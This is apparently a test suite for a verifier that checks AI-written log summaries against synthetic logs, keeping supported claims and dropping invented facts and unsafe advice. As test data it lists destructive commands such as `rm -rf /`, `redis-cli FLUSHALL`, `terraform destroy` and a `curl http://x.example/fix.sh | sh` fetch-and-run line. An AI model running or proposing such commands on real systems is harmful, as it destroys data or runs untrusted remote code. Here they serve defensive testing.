import { describe, expect, test } from 'vitest';
import { type Digest, digestText } from '#src/logs/digest/index.ts';
import { summarizeOffline } from '#src/logs/offline/summarize-offline.ts';
import type { RawClaim, RawSummary } from '#src/logs/summary-task.ts';
import { verifySummary } from '#src/logs/verify/verify-summary.ts';
import { outage } from '#tests/support/digest.ts';
import { type Said, told } from '#tests/support/true-and-false.ts';

const now = Date.UTC(2026, 10, 22);
const clock = (second: number): string =>
  `2026-11-22T12:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')}Z`;
const read = (lines: string[]): Digest => digestText(lines.join('\n'), { now });

/** Each pattern is cited by words of its template. */
const logs: Record<string, Digest> = {
  pool: outage(),
  memory: read([
    ...Array.from({ length: 20 }, (_, at) => `${clock(at)} INFO worker handled job ${at} in ${at + 3} ms`),
    `${clock(21)} ERROR kernel: Out of memory: Killed process 4242 (java) total-vm:8123456kB, anon-rss:4194304kB`,
    `${clock(22)} WARN kubelet pod orders-7f9c restarted, exit code 137`,
  ]),
  logins: read(
    Array.from(
      { length: 30 },
      (_, at) =>
        `Dec 10 12:00:${String(at).padStart(2, '0')} host sshd[24${at}]: Failed password for root from 10.0.0.5 port ${4000 + at} ssh2`,
    ),
  ),
  certificate: read(
    Array.from(
      { length: 6 },
      (_, at) => `${clock(at)} ERROR gateway call to payments.internal:8443 failed: x509: certificate has expired or is not yet valid`,
    ),
  ),
  database: read([
    ...Array.from(
      { length: 8 },
      (_, at) => `${clock(at)} ERROR orders insert failed: duplicate key value violates unique constraint "orders_pkey"`,
    ),
    ...Array.from({ length: 5 }, (_, at) => `${clock(20 + at)} ERROR orders could not connect to db-1:5432: Connection refused`),
    `${clock(2)} INFO deploy release 3.1.0 is live on web-1`,
  ]),
  requests: read(
    Array.from(
      { length: 24 },
      (_, at) =>
        `10.0.0.${at % 3} - - [22/Nov/2026:12:00:${String(at).padStart(2, '0')} +0000] "GET ${at % 2 ? '/cart' : '/health'} HTTP/1.1" ${at % 2 ? 502 : 200} ${100 + at}`,
    ),
  ),
};

const SLOW = 'slow query';
/** Two kinds of trouble and healthy requests, at times that can be told apart; the one goes on to the end of the log. */
const shop = read([
  ...Array.from({ length: 40 }, (_, at) => `${clock(at)} INFO POST /buy order=${500 + at} 201 in ${at % 7} ms user=ana${at}@example.org`),
  `${clock(41)} INFO release 4.2.0 is live on web-1, web-2 (was 4.1.9)`,
  ...Array.from({ length: 6 }, (_, at) => `${clock(43 + at)} WARN retry 2 of transfer ${70 + at}: bank answered 429`),
  ...Array.from(
    { length: 20 },
    (_, at) =>
      `${clock(60 + at)} ERROR POST /buy order=${700 + at} 503 in 30${at} ms: timeout acquiring connection from pool stock-db (size 8, waiting 3${at % 10})`,
  ),
  ...Array.from({ length: 4 }, (_, at) => `${clock(90 + at)} WARN slow query ${at + 3} s: select * from stock`),
  ...Array.from(
    { length: 30 },
    (_, at) => `${clock(100 + at)} INFO POST /buy order=${900 + at} 201 in ${at % 7} ms user=bo${at}@example.org`,
  ),
  ...Array.from({ length: 12 }, (_, at) => `${clock(131 + at)} ERROR cache-2 write failed: OOM command not allowed, key sess:${at}`),
]);
logs['shop'] = shop;

const cite = (digest: Digest, words: string, quote: string | null = null): RawClaim['evidence'][number] => ({
  pattern: digest.patterns.find(({ template, samples }) => template.includes(words) || samples[0]?.text.includes(words))?.id ?? 'P99',
  fromLine: null,
  toLine: null,
  quote,
});
const raw = (over: Partial<RawSummary>): RawSummary => ({
  headline: 'x',
  severity: 'high',
  whatIsGoingOn: [],
  likelyCauses: [],
  impact: [],
  nextSteps: [],
  ...over,
});
/** `{of.count}` stands for a fact of the pattern that is cited. */
const claimOf = (log: string, words: string, text: string, quote: string | null = null): RawClaim => {
  const evidence = cite(logs[log] as Digest, words, quote);
  return { text: text.replaceAll('{of.', `{${evidence.pattern}.`), confidence: null, evidence: [evidence] };
};
const holds = (log: string, claim: RawClaim): boolean =>
  verifySummary(raw({ whatIsGoingOn: [claim] }), logs[log] as Digest).whatIsGoingOn.length === 1;

const POOL = 'HikariPool-1';
const CHECKOUT = 'failed with status';

describe('what is true is kept, in whatever words', () => {
  const truths: [log: string, cites: string, text: string, quote?: string][] = [
    ['pool', POOL, 'The connection pool ran dry {of.count} times between {of.first} and {of.last}'],
    ['pool', POOL, 'HikariPool-1 had no connection left, and requests timed out'],
    ['pool', POOL, 'All 20 connections of the pool were in use'],
    ['pool', POOL, 'Requests waited for a connection until they timed out after 30000 ms'],
    ['pool', POOL, 'It began at {of.first} and lasted {of.duration}'],
    ['pool', POOL, 'The pool was exhausted, most of all around 12:04'],
    ['pool', POOL, 'Connections are held too long, or the pool is too small for the load'],
    ['pool', POOL, 'The pool said “Connection is not available, request timed out”'],
    ['pool', POOL, 'A database connection could not be acquired', 'Connection is not available'],
    ['pool', CHECKOUT, '{of.count} POST requests failed with 503'],
    ['pool', CHECKOUT, 'Calls to /checkout got 503'],
    ['pool', CHECKOUT, '{of.distinct.0} paths are affected, most often /checkout ({of.topCount.0.0} of {of.count})'],
    ['pool', CHECKOUT, 'About {of.distinct.2} users got an error'],
    ['pool', 'GET /health', 'Health checks were answered with 200 all the time'],
    ['memory', 'Out of memory', 'The java process was killed because memory ran out'],
    ['memory', 'Out of memory', 'The kernel killed process 4242, which used too much memory'],
    ['memory', 'Out of memory', 'A process ran out of memory at {of.first}'],
    ['memory', 'Out of memory', 'The process needs more memory than it may have: a leak, or a limit that is too low'],
    ['memory', 'pod orders', 'The pod orders-7f9c was restarted with exit code 137'],
    ['logins', 'Failed password', 'Logins as root were rejected {of.count} times'],
    ['logins', 'Failed password', 'Somebody at 10.0.0.5 tries passwords for root over SSH'],
    ['logins', 'Failed password', 'Failed password attempts for root, from one address'],
    ['logins', 'Failed password', 'Wrong credentials, or somebody guessing passwords'],
    ['certificate', 'certificate', 'The certificate of payments.internal has expired'],
    ['certificate', 'certificate', 'Calls of the gateway to payments.internal:8443 fail because of an expired TLS certificate'],
    ['certificate', 'certificate', 'TLS connections are not accepted: the certificate is not valid'],
    ['database', 'duplicate key', 'Inserting orders failed {of.count} times on the unique constraint orders_pkey'],
    ['database', 'duplicate key', 'The database rejected duplicate keys'],
    ['database', 'Connection refused', 'db-1 refused connections on port 5432'],
    ['database', 'Connection refused', 'The orders service could not reach its database'],
    ['database', 'Connection refused', 'No connection could be made to db-1: it is down, or still starting'],
    ['database', 'release', 'Release 3.1.0 went live on web-1'],
    ['requests', '/cart', '{of.count} requests for /cart got 502 from the gateway'],
    ['requests', '/cart', 'Requests to /cart failed on the server with 502'],
    ['requests', '/health', 'Requests for /health were answered with 200'],
  ];

  test.each(truths)('%s, %s: %s', (log, cites, text, quote) => {
    expect(holds(log, claimOf(log, cites, text, quote ?? null))).toBe(true);
  });

  test('a headline may say what the kept claims say, and sum them up', () => {
    const digest = logs['pool'] as Digest;
    const claims = [claimOf('pool', POOL, 'The connection pool ran dry'), claimOf('pool', CHECKOUT, 'Calls to /checkout got 503')];
    for (const headline of [
      'Checkout fails with 503 because the connection pool ran dry',
      'The connection pool ran dry for {P1.duration}; {P2.count} requests got 503',
      '{log.errors} errors in {log.lines} lines: no connection available in the pool',
    ])
      expect(verifySummary(raw({ headline, whatIsGoingOn: claims }), digest).unsupportedDropped).toBe(0);
  });

  test('advice may name tools, and what stands in the log', () => {
    const advice = [
      'Check pg_stat_activity for long transactions',
      'Run `kubectl get pods` and look at restarts',
      'Raise the size of HikariPool-1, or find what holds its connections',
      'Compare the limits with what /checkout needs',
      'Look at the log from line {P1.firstLine}',
      'Add retries with back-off on the client side',
    ];
    const nextSteps = advice.map((text): RawClaim => ({ text, confidence: null, evidence: [] }));
    expect(verifySummary(raw({ nextSteps }), logs['pool'] as Digest).nextSteps).toHaveLength(advice.length);
  });
});

test('the built-in engine never says what the check does not believe, whatever a log tells and names', () => {
  const failures = [
    'bounce for {}: mailbox full',
    'Connection is not available, request timed out after 30000ms for {}',
    'java.lang.OutOfMemoryError: Java heap space while serving {}',
    'connect ECONNREFUSED {}',
    'x509: certificate of {} has expired or is not yet valid',
    'No space left on device, cannot write for {}',
    'permission denied for user {}',
    'GET /items?for={} HTTP/1.1" 503 12',
    'POST /pay order=77 502 in 30 ms: deadlock detected by {}',
    'rate limit exceeded for tenant {}, retry in 3 s',
    'Cannot find module {}',
    'upstream {} prematurely closed connection',
    'missing environment variable STRIPE_KEY on {}',
    'health check failed 3 times on {}, exiting with code 137',
  ];
  const names = [
    'ana{}@example.org',
    '10.0.0.{}:5432',
    'node-{}',
    '/srv/data/{}.db',
    'order={}',
    'api',
    '9f8e7d6c-0000-4000-8000-0000000000{}{}',
  ];
  const dropped = failures.flatMap((failure, kind) =>
    names.flatMap((name) => {
      const digest = read([
        ...Array.from({ length: 12 }, (_, at) => `${clock(at)} INFO api GET /cart ${at % 3 ? 200 : 304} in ${at} ms`),
        `${clock(13)} INFO deploy release 2.${kind}.0 is live on web-1 (was 2.${kind}.9)`,
        ...Array.from(
          { length: 9 },
          (_, at) =>
            `${clock(20 + 5 * at)} ${at % 4 ? 'ERROR' : 'WARN'} ${failure.replace('{}', name.replaceAll('{}', String(10 + (at % 4))))}`,
        ),
        ...(kind % 2
          ? [`${clock(70)} ERROR ${failures[kind - 1]?.replace('{}', 'web-2')}`, `${clock(71)} INFO api all is well, no errors`]
          : []),
      ]);
      return verifySummary(summarizeOffline({ digest }), digest).unsupportedDropped > 0 ? [`${failure} / ${name}`] : [];
    }),
  );
  expect(dropped).toEqual([]);
});

test.each(Object.entries(told))(
  'of what a remote model may say of the %s log, what is true is kept and no lie is',
  (_, { lines, truths, beyondUs, lies }) => {
    const digest = read([...lines]);
    const isKept = ([text, ...cites]: Said): boolean => {
      const evidence = cites.map((words) => cite(digest, words));
      const ofPattern = (_all: string, one: string, other?: string): string =>
        `{${[one, ...(other ? [other] : [])].map((at) => evidence[Number(at)]?.pattern).join('+')}.`;
      const claim: RawClaim = { text: text.replace(/\{(\d)(?:\+(\d))?\./g, ofPattern), confidence: null, evidence };
      return verifySummary(raw({ whatIsGoingOn: [claim] }), digest).whatIsGoingOn.length === 1;
    };
    expect({ dropped: truths.filter((said) => !isKept(said)), kept: [...beyondUs, ...lies].filter(isKept) }).toEqual({
      dropped: [],
      kept: [],
    });
  },
);

describe('a real line cited for a wrong claim', () => {
  const POOLS = 'timeout acquiring';
  const CACHE = 'OOM command';
  const RELEASE = 'is live';
  const BANK = 'bank answered';
  const SOLD = ' 201 in ';
  const say = (text: string, cites: string[]): boolean => {
    const evidence = cites.map((words) => cite(shop, words));
    const filled = text.replace(/\{(\d)\./g, (_, at: string) => `{${evidence[Number(at)]?.pattern}.`);
    return verifySummary(raw({ whatIsGoingOn: [{ text: filled, confidence: null, evidence }] }), shop).whatIsGoingOn.length === 1;
  };

  const lies: [why: string, text: string, ...cites: string[]][] = [
    ['denied', 'POST /buy did not time out', POOLS],
    ['denied', 'No timeout of the pool hit POST /buy', POOLS],
    ['denied', 'Nobody was affected by the timeouts of POST /buy', POOLS],
    ['denied', 'POST /buy never timed out', POOLS],
    ['denied', 'POST /buy wasn’t hit by a timeout', POOLS],
    ['denied', 'POST /buy got no 503', POOLS],
    ['denied', 'cache-2 was not out of memory and no write failed', CACHE],
    ['denied', '0 writes failed on cache-2', CACHE],
    ['denied', 'The bank never answered 429', BANK],
    ['denied', 'Release 4.2.0 is not live', RELEASE],
    ['affirmed what is denied', 'The OOM command was allowed on cache-2', CACHE],
    ['over', 'The OOM of cache-2 is over', CACHE],
    ['over', 'Writes to cache-2 no longer fail', CACHE],
    ['over', 'Failed writes of cache-2 stopped', CACHE],
    ['over', 'The slow query was fixed', SLOW],
    ['over', 'Timeouts of the pool were resolved by release 4.2.0', POOLS, RELEASE],
    ['over', 'The pool stock-db has recovered', POOLS],
    ['all', 'Every POST /buy failed', POOLS],
    ['all', 'All POST /buy requests got 503', POOLS],
    ['all', 'All errors come from cache-2', CACHE],
    ['all', 'All timeouts of the pool are for order 700', POOLS],
    ['all', 'Everything failed with a timeout', POOLS],
    ['only', 'Only web-1 is affected', RELEASE],
    ['only', 'Only cache-2 has errors', CACHE],
    ['only', 'POST /buy got 503 only once', POOLS],
    ['only', 'A single POST /buy timed out', POOLS],
    ['only', 'The timeout hit order 700 alone', POOLS],
    ['most', 'Most requests failed', POOLS],
    ['most', 'Most errors are failed writes of cache-2', CACHE],
    ['always', 'The pool was always exhausted', POOLS],
    ['order', 'The timeouts of the pool began before release 4.2.0 went live', POOLS, RELEASE],
    ['order', 'Timeouts of the pool began after the slow queries', POOLS, SLOW],
    ['order', 'After the slow queries, connections of the pool timed out', SLOW, POOLS],
    ['order', 'Failed writes of cache-2 stopped before the timeouts of the pool', CACHE, POOLS],
    ['order', 'Release 4.2.0 went live during the timeouts of the pool', RELEASE, POOLS],
    ['order', 'Failed writes of cache-2 were followed by slow queries', CACHE, SLOW],
    ['moments', 'Timeouts of the pool ended at {0.first}', POOLS],
    ['moments', 'Timeouts of the pool began at {0.last}', POOLS],
    ['moments', 'The pool timed out until {0.first}', POOLS],
    ['cause', 'Slow queries caused the timeouts of the pool', SLOW, POOLS],
    ['cause', 'The pool timed out because writes of cache-2 failed', POOLS, CACHE],
    ['cause', 'The bank answered 429 because the transfer was declined', BANK],
    ['cause', 'Release 4.1.9 caused the timeouts of the pool', RELEASE, POOLS],
    ['seats', 'The pool has size 31 and 8 wait', POOLS],
    ['seats', 'Release 4.1.9 is live, it was 4.2.0', RELEASE],
    ['seats', '8 requests timed out', POOLS],
    ['seats', 'The pool timed out 2 times', POOLS],
    ['facts of another', '{1.count} timeouts acquiring a connection from the pool', POOLS, SLOW],
    ['facts of another', '{0.count} slow queries and {1.count} timeouts of the pool', POOLS, SLOW],
    ['facts of another', '“timeout acquiring connection” {1.count} times, beside a slow query', POOLS, SLOW],
    ['facts of another', 'More than {0.count} timeouts of the pool', POOLS],
  ];
  test.each(lies)('%s: %s', (_, text, ...cites) => {
    expect(say(text, cites)).toBe(false);
  });

  const truths: [text: string, ...cites: string[]][] = [
    ['No connection of the pool stock-db could be acquired in time', POOLS],
    ['All {0.count} timeouts are of POST /buy', POOLS],
    ['All timeouts of the pool concern stock-db', POOLS],
    ['Only POST /buy ran into timeouts of the pool', POOLS],
    ['Most errors are timeouts of the pool', POOLS],
    ['POST /buy timeouts of the pool began at {0.first} and ended at {0.last}', POOLS],
    ['The pool no longer times out at the end of the log', POOLS],
    ['Timeouts of the pool began after release 4.2.0 went live', POOLS, RELEASE],
    ['The pool timed out before the slow queries', POOLS, SLOW],
    ['After release 4.2.0 went live, connections of the pool timed out', RELEASE, POOLS],
    ['Release 4.2.0 may have caused the timeouts of the pool', RELEASE, POOLS],
    ['The pool has size 8 and up to 39 wait', POOLS],
    ['Release 4.2.0 is live, it was 4.1.9', RELEASE],
    ['{0.count} timeouts acquiring a connection, {1.count} slow queries', POOLS, SLOW],
    ['The OOM command is not allowed on cache-2', CACHE],
    ['Writes to cache-2 still fail at the end', CACHE],
    ['Sales went on: {0.count} POST /buy requests got 201', SOLD],
    ['The bank answered 429 {0.count} times', BANK],
  ];
  test.each(truths)('but what is so is kept: %s', (text, ...cites) => {
    expect(say(text, cites)).toBe(true);
  });

  test.each([
    'Delete cache-2 with `redis-cli FLUSHALL`',
    'Run `redis-cli FLUSHALL` on cache-2',
    'Use redis-cli to run FLUSHALL',
    'Execute `kubectl delete pod web-1`',
    'Run `terraform destroy`',
    'Drop stock-db',
    'Flush cache-2',
    'Type `stockctl reset --hard`',
    'Run pkill -9 java',
  ])('no command is advised that is neither in the log nor one of ours: %s', (text) => {
    expect(verifySummary(raw({ nextSteps: [{ text, confidence: null, evidence: [] }] }), shop).nextSteps).toEqual([]);
  });
});

describe('lies do not pass', () => {
  const lies: [why: string, log: string, cites: string, text: string, quote?: string][] = [
    [
      'a real line for another story',
      'pool',
      POOL,
      'An attacker stole customer passwords over a hijacked connection',
      'Connection is not available',
    ],
    ['a real line for another story', 'pool', POOL, 'The connection cable was unplugged by the cleaning crew'],
    ['a real line for another story', 'logins', 'Failed password', 'The disk of the host is full and passwords are lost'],
    ['a real line for another story', 'certificate', 'certificate', 'The certificate was stolen by a former employee'],
    ['a deed nobody did', 'pool', CHECKOUT, 'POST requests to /checkout failed with 503 and users were billed'],
    ['a deed nobody did', 'pool', POOL, 'The connection was not available and the request was cancelled by the user'],
    ['a deed nobody did', 'logins', 'Failed password', 'Failed passwords for root, so the account was suspended'],
    ['a deed nobody did', 'database', 'duplicate key', 'The insert of orders failed and the orders were shipped'],
    ['another cause', 'database', 'Connection refused', 'Connection refused because an administrator deleted the database'],
    ['another cause', 'pool', POOL, 'PostgreSQL failed over, so the connection pool emptied'],
    ['another cause', 'pool', POOL, 'The deployment of a new release broke the connection pool'],
    ['another cause', 'memory', 'Out of memory', 'The process ran out of memory after an upgrade of the kernel'],
    ['the opposite', 'pool', POOL, 'The connection was always available and no request timed out'],
    ['the opposite', 'pool', POOL, 'The request succeeded'],
    ['the opposite', 'pool', CHECKOUT, 'POST requests to /checkout were successful'],
    ['the opposite', 'memory', 'Out of memory', 'Memory was fine and the process was not killed'],
    ['the opposite', 'database', 'Connection refused', 'The connection to db-1 was accepted'],
    ['the opposite', 'database', 'duplicate key', 'No insert failed'],
    ['the opposite', 'requests', '/health', 'Requests for /health failed'],
    ['the opposite', 'pool', 'GET /health', 'Health checks failed'],
    ['a service that never appears', 'pool', POOL, 'The billing service lost its connection'],
    ['a service that never appears', 'pool', POOL, 'The payment-gateway lost its connection'],
    ['a service that never appears', 'pool', POOL, 'The connection pool of the inventory database is exhausted'],
    ['a service that never appears', 'database', 'Connection refused', 'The orders service could not reach the billing database'],
    ['a product that never appears', 'pool', POOL, 'Redis refused the connection of the pool'],
    ['a product that never appears', 'pool', POOL, 'Kubernetes killed the connection pool'],
    ['a product that never appears', 'certificate', 'certificate', 'The certificate of Cloudflare has expired'],
    ['a host that never appears', 'database', 'Connection refused', 'db-2 refused connections'],
    ['a host that never appears', 'certificate', 'certificate', 'The certificate of billing.internal has expired'],
    ['a person that never appears', 'logins', 'Failed password', 'Logins of Alice were rejected'],
    ['a class that never appears', 'pool', POOL, 'A NullPointerException emptied the connection pool'],
    ['an invented number', 'pool', POOL, 'The pool had no connection 37 times'],
    ['an invented number', 'pool', POOL, 'The pool has 64 connections'],
    ['a number in words', 'pool', POOL, 'The pool had no connection seventy times'],
    ['a number in words', 'pool', POOL, 'Hundreds of connections timed out'],
    ['a number in words', 'pool', POOL, 'A dozen connections timed out'],
    ['a share in words', 'pool', POOL, 'Half of the connections timed out'],
    ['a share in words', 'pool', POOL, 'Two thirds of the requests timed out'],
    ['a share in words', 'pool', POOL, 'The majority of requests timed out'],
    ['a growth in words', 'pool', POOL, 'Connection timeouts doubled'],
    ['a growth in words', 'pool', POOL, 'Connection timeouts tripled'],
    ['a frequency in words', 'pool', POOL, 'Connections timed out twice'],
    ['a frequency in words', 'pool', POOL, 'The connection timed out once'],
    ['one of many', 'pool', POOL, 'One connection timed out'],
    ['none of many', 'pool', POOL, 'Zero connections timed out'],
    ['digits of another script', 'pool', POOL, 'The pool had no connection ٣٧ times'],
    ['digits of another script', 'pool', POOL, 'The pool had no connection ３７ times'],
    ['a numeral of another script', 'pool', POOL, 'The pool had no connection 三百 times'],
    ['a fraction as one sign', 'pool', POOL, '½ of the connections timed out'],
    ['a value as a count', 'pool', POOL, 'The pool had no connection 20 times'],
    ['a line as a count', 'pool', POOL, 'The pool had no connection for 18204 requests'],
    ['a count of the whole log', 'pool', POOL, 'The pool had no connection for 48,213 requests'],
    ['a count of something else', 'pool', POOL, '412 customers lost their connection'],
    ['a count of something else', 'pool', POOL, '{of.count} customers lost their connection'],
    ['a fact of another pattern', 'pool', POOL, 'The pool had no connection {P2.count} times'],
    ['the length of the whole log', 'pool', POOL, 'The pool had no connection for {log.duration}'],
    ['a time out of range', 'pool', POOL, 'The pool had no connection at 12:30'],
    ['a time before it began', 'pool', POOL, 'The pool had no connection at 12:02'],
    ['a day', 'pool', POOL, 'The pool had no connection on Monday'],
    ['a month', 'pool', POOL, 'The pool had no connection in March'],
    ['a time of day', 'pool', POOL, 'The pool had no connection since midnight'],
    ['a length in words', 'pool', POOL, 'The pool had no connection for days'],
    ['yesterday', 'pool', POOL, 'The pool had no connection yesterday'],
    ['a quote with one word changed', 'pool', POOL, 'The pool is exhausted', 'Connection is now available'],
    ['a quote with one word left out', 'pool', POOL, 'The pool is exhausted', 'Connection is available'],
    ['a quote without the not', 'pool', POOL, 'The connection is there', 'available, request'],
    ['a quote from inside a word', 'pool', POOL, 'The pool is exhausted', 'vailable, request timed'],
    ['a quote of another pattern', 'pool', POOL, 'The pool is exhausted', 'GET /health 200'],
    ['a phrase in “”', 'pool', POOL, 'The pool said “too many clients already”'],
    ['a phrase in ""', 'pool', POOL, 'The pool said "too many clients already"'],
    ["a phrase in ''", 'pool', POOL, "The pool said 'too many clients already'"],
    ['a phrase in ‘’', 'pool', POOL, 'The pool said ‘too many clients already’'],
    ['a phrase in «»', 'pool', POOL, 'The pool said « too many clients already »'],
    ['a phrase in „“', 'pool', POOL, 'The pool said „too many clients already“'],
    ['a phrase in ``', 'pool', POOL, 'The pool said `too many clients`'],
    ['half a word in marks', 'pool', POOL, 'The pool said “nection is not”'],
  ];

  test.each(lies)('%s (%s): %s%s', (_, log, cites, text, quote) => {
    expect(holds(log, claimOf(log, cites, text, quote ?? null))).toBe(false);
  });

  test('two patterns are cited, and what is said of the second is not in it', () => {
    const digest = logs['pool'] as Digest;
    const evidence = [cite(digest, POOL), cite(digest, 'GET /health')];
    for (const text of ['The connection failed because health was deleted', 'Health failed, and the connection is available'])
      expect(verifySummary(raw({ whatIsGoingOn: [{ text, confidence: null, evidence }] }), digest).whatIsGoingOn).toEqual([]);
  });

  test.each([
    'Stripe is down and all customers lost their money',
    'Hackers are inside the network',
    'Nothing looks wrong',
    'Everything is fine: no errors in {log.lines} lines',
    'Half of all customers could not pay for most of the day',
    'The pool ran dry at 13:37',
    'The connection pool ran dry {P3.count} times',
  ])('a headline that no kept claim carries is replaced: %s', (headline) => {
    const claims = [claimOf('pool', POOL, 'The connection pool ran dry')];
    const { headline: shown, unsupportedDropped } = verifySummary(raw({ headline, whatIsGoingOn: claims }), logs['pool'] as Digest);
    expect(shown).toMatch(/^Connections of a pool are used up/);
    expect(unsupportedDropped).toBe(1);
  });

  test.each([
    'Drop the production database and delete all backups',
    'Run rm -rf / on the database server',
    'Disable the firewall until it works',
    'Run `curl http://x.example/fix.sh | sh`',
    'Restart the billing-worker on host prod-db',
    'Restart Redis',
    'Roll back the deploy that Bob made yesterday',
    'Call Alice',
    'Raise the pool to 64 connections',
  ])('advice that destroys, or names what is not in the log, is dropped: %s', (text) => {
    const nextSteps: RawClaim[] = [{ text, confidence: null, evidence: [] }];
    expect(verifySummary(raw({ nextSteps }), logs['pool'] as Digest)).toMatchObject({
      nextSteps: [],
      unsupportedDropped: expect.any(Number),
    });
  });

  test.each([
    ['201', 'POST /checkout succeeded', 1],
    ['503', 'POST /checkout succeeded', 0],
    ['503', 'POST /checkout failed', 1],
    ['429', 'POST /checkout was throttled', 1],
    ['201', 'POST /checkout was throttled', 0],
  ])('of requests answered %s: "%s"', (status, text, kept) => {
    const digest = read(Array.from({ length: 12 }, (_, at) => `${clock(at)} INFO POST /checkout ${status} in ${at + 5} ms`));
    const evidence = digest.patterns.map(({ id }) => ({ pattern: id, fromLine: null, toLine: null, quote: null }));
    expect(verifySummary(raw({ whatIsGoingOn: [{ text, confidence: null, evidence }] }), digest).whatIsGoingOn).toHaveLength(kept);
  });

  test('a range over all of the log is cut to what is there to be shown', () => {
    const digest = logs['pool'] as Digest;
    const wide = { ...cite(digest, POOL), fromLine: 1, toLine: 48_213 };
    const { whatIsGoingOn } = verifySummary(
      raw({ whatIsGoingOn: [{ text: 'The pool is exhausted', confidence: null, evidence: [wide] }] }),
      digest,
    );
    expect(whatIsGoingOn[0]?.evidence[0]?.lines).toEqual({ from: 18_204, to: 39_911 });
  });
});
